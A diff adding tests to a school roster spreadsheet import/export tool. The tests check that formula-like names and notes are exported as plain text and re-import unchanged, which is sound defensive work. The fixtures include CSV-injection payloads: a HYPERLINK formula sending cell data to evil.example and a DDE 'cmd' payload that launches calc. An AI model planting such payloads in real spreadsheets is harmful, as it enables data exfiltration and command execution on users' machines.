@@ -225,3 +225,66 @@ async def test_money_is_stored_in_fen(db: Database, tmp_path: Path) -> None:
     await run_import(db, write_workbook(tmp_path / "a.xlsx", rows))
     async with db.transaction() as s:
         assert await s.scalar(select(Course.price_fen).where(Course.name == "篮球")) == 2050
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+王小明", "-李华", "@张一一", "=1+1", "-"]
+
+
+def _formula_like_rows() -> dict[str, list[list[object]]]:
+    rows = demo_rows()
+    for index, value in enumerate(FORMULA_LIKE):
+        rows["学生"][index][1] = value  # 姓名
+        rows["学生"][index][9] = value  # 备注
+    rows["家长"][0][1] = rows["家长"][1][1] = "=cmd|' /C calc'!A0"  # one guardian, two children
+    rows["学生"][6][9] = "\t=1+2"  # a note that begins with a tab
+    rows["学生"][7][9] = "=SUM(1,2)\r\n第二行"
+    return rows
+
+
+async def test_export_writes_formula_like_text_as_text(db: Database, tmp_path: Path) -> None:
+    await run_import(db, write_workbook(tmp_path / "a.xlsx", _formula_like_rows()))
+    out = tmp_path / "export.xlsx"
+    await export_roster(db, out, school_name=SCHOOL)
+    wb = load_workbook(out)
+    cells = [c for name in ("学生", "家长") for row in wb[name].iter_rows(min_row=2) for c in row]
+    assert all(c.data_type != "f" for c in cells)
+    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert len(risky) >= 2 * len(FORMULA_LIKE) + 2
+    assert all(c.quotePrefix for c in risky)  # Excel keeps it text when the cell is edited, too
+    names = [r[1] for r in wb["学生"].iter_rows(min_row=2, values_only=True)]
+    assert names[: len(FORMULA_LIKE)] == FORMULA_LIKE
+    phones = [r[3] for r in wb["家长"].iter_rows(min_row=2, values_only=True)]
+    assert all(isinstance(p, str) and len(p) == 11 for p in phones)
+
+
+async def test_export_then_import_of_formula_like_text_changes_nothing(db: Database, tmp_path: Path) -> None:
+    first = await run_import(db, write_workbook(tmp_path / "a.xlsx", _formula_like_rows()))
+    assert first.ok, first.render()
+    async with db.transaction() as s:
+        stored = sorted((await s.execute(select(Student.student_no, Student.name, Student.note))).all())
+        guardians = sorted((await s.execute(select(Guardian.name, Guardian.phone))).all())
+    out = tmp_path / "export.xlsx"
+    await export_roster(db, out, school_name=SCHOOL)
+    before = await counts(db)
+    result = await run_import(db, out)
+    assert result.ok and not result.changed, result.render()
+    assert await counts(db) == before
+    async with db.transaction() as s:
+        assert sorted((await s.execute(select(Student.student_no, Student.name, Student.note))).all()) == stored
+        assert sorted((await s.execute(select(Guardian.name, Guardian.phone))).all()) == guardians
+    assert ("D3201", FORMULA_LIKE[0], FORMULA_LIKE[0]) in stored
+
+
+async def test_csv_with_formula_like_text_exports_and_reimports_unchanged(db: Database, tmp_path: Path) -> None:
+    rows = demo_rows()
+    rows["学生"][0][1] = "=1+1"
+    rows["学生"][0][9] = "-过敏\r\n@花生"  # a CRLF inside a quoted CSV cell
+    paths = [write_csv(tmp_path / f"{name}.csv", name, rows[name]) for name in rows]
+    assert (await run_import(db, *paths)).ok
+    out = tmp_path / "export.xlsx"
+    await export_roster(db, out, school_name=SCHOOL)
+    result = await run_import(db, out)
+    assert result.ok and not result.changed, result.render()
+    async with db.transaction() as s:
+        assert (await s.execute(select(Student.name, Student.note).where(Student.student_no == "D3201"))).one() == (
+            "=1+1", "-过敏\n@花生")
